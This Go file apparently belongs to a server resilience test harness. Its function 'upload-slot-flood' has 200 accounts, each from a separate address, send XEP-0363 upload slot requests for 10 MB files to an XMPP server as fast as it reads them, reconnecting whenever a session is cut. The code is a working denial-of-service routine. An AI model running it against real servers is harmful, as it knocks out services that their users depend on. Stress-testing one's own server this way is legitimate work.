package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
)

// uploadFlood is upload-slot-flood: uploadAccounts accounts, each from its
// own address, logged in with a session that reads its replies, send
// XEP-0363 slot requests for a file of the largest size as fast as the
// server reads them, logging in again whenever the server ends a session.
//
// It writes as a real attacker would to make the most of what the server
// reads: uploadBatch requests per write, into a socket whose send buffer
// holds uploadSendBuffer bytes. The server reads a client at its read
// allowance, so the kernel's autotuned send buffer (megabytes per socket)
// only queued requests the server would read minutes later: the tool
// wrote 700 MB in 8 s, one write per request, and spent 9 s of CPU on the
// machine's two cores doing it, which is what made the witness (in this
// process) late, not the server. With a bounded buffer the writer blocks
// until the server has read, and the server finds as much waiting at
// every read as before. A writer waits in a full buffer for seconds (the
// kernel wakes it once a third of the buffer is free, and the server reads
// a client of small stanzas at a few KB a second), so the connections are
// closed the moment the attack's time is up: the server would otherwise go
// on answering it for as long again, and the counts with it.
func uploadFlood(e *env) (string, error) {
	var k, cut, slots, refused atomic.Int64
	defer context.AfterFunc(e.ctx, e.closeAll)()
	e.parallel(uploadAccounts, func(i int) {
		for !e.done() {
			s, err := e.loginSendBuffer(ip(i), "l"+strconv.Itoa(i))
			if err != nil {
				time.Sleep(50 * time.Millisecond)
				continue
			}
			go countReplies(s, &slots, &refused)
			var b strings.Builder
			for !e.done() {
				b.Reset()
				for range uploadBatch {
					n := strconv.FormatInt(k.Add(1), 10)
					b.WriteString("<iq type='get' id='u" + n + "' to='upload." + e.domain + "'><request xmlns='urn:xmpp:http:upload:0' filename='f" + n + ".bin' size='10000000' content-type='application/octet-stream'/></iq>")
				}
				if err := s.sendWithin(b.String(), uploadBatch, 30*time.Second); err != nil {
					if !e.done() {
						cut.Add(1)
					}
					break
				}
			}
			s.nc.Close()
		}
	})
	return e.counts() + fmt.Sprintf(", replies: %d slots, %d errors; server cut %d", slots.Load(), refused.Load(), cut.Load()), nil
}

const (
	uploadAccounts = 200
	// uploadBatch requests go in one write, about 3 KB.
	uploadBatch = 16
	// uploadSendBuffer is the attacker's socket send buffer (SO_SNDBUF):
	// seconds of what the server reads from one client at its default
	// allowance, so that the server never waits for the client.
	uploadSendBuffer = 64 << 10
)

// loginSendBuffer is login from src with the socket's send buffer bounded
// to uploadSendBuffer.
func (e *env) loginSendBuffer(src net.IP, user string) (*session, error) {
	return e.loginBuf(src, user, "", sockBuf{syscall.SO_SNDBUF, uploadSendBuffer})
}

// sendWithin is send for n stanzas in x, with a write deadline of d: a
// write into a full send buffer waits for the server to read.
func (s *session) sendWithin(x string, n int, d time.Duration) error {
	s.wmu.Lock()
	defer s.wmu.Unlock()
	if s.e.done() {
		return s.e.ctx.Err()
	}
	_ = s.nc.SetWriteDeadline(time.Now().Add(d))
	if _, err := io.WriteString(s.nc, x); err != nil {
		return err
	}
	s.e.sent.Add(int64(n))
	s.e.sentBytes.Add(int64(len(x)))
	return nil
}

// countReplies reads and discards what the server sends, as drain, and
// counts the slots it hands out and the errors (a marker split between two
// reads is missed: the counts are close, not exact).
func countReplies(s *session, slots, refused *atomic.Int64) {
	buf := make([]byte, 32<<10)
	for {
		n, err := s.br.Read(buf)
		slots.Add(int64(bytes.Count(buf[:n], []byte("<slot "))))
		refused.Add(int64(bytes.Count(buf[:n], []byte("<error "))))
		if err != nil {
			return
		}
	}
}
